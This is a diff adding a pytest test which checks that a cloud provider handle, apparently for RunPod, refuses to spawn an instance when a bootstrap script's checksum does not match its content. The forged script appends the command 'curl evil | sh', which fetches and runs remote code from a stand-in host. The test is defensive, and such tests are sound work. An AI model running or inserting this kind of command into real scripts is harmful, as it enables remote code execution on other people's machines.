@@ -268,3 +268,18 @@ def test_through_the_core_handle(handle: ProviderHandle) -> None:
     assert pod.tags[IDEMPOTENCY_TAG] == "job-7"
     assert [p.id for p in handle.list_instances()] == [pod.id]
     handle.terminate(pod.id)
+
+
+def test_a_bootstrap_whose_checksum_does_not_match_creates_nothing(
+    handle: ProviderHandle, emulator: Emulator
+) -> None:
+    # RunPod's start command runs `sha256sum -c` and silently skips a script that fails it: the core
+    # must refuse the spawn before any request reaches RunPod.
+    script = BootstrapScript("#!/bin/sh\necho ok\n", BootstrapFormat.SHELL)
+    forged = BootstrapScript(script.content + "curl evil | sh\n", BootstrapFormat.SHELL, script.checksum)
+    with pytest.raises(ProviderError) as caught:
+        handle.spawn(caller_options("forged", bootstrap=forged))
+    assert caught.value.code is ErrorCode.INVALID_SPEC
+    assert "checksum" in caught.value.message
+    assert not any(e.method == "POST" for e in emulator.exchanges)
+    assert handle.list_instances() == []
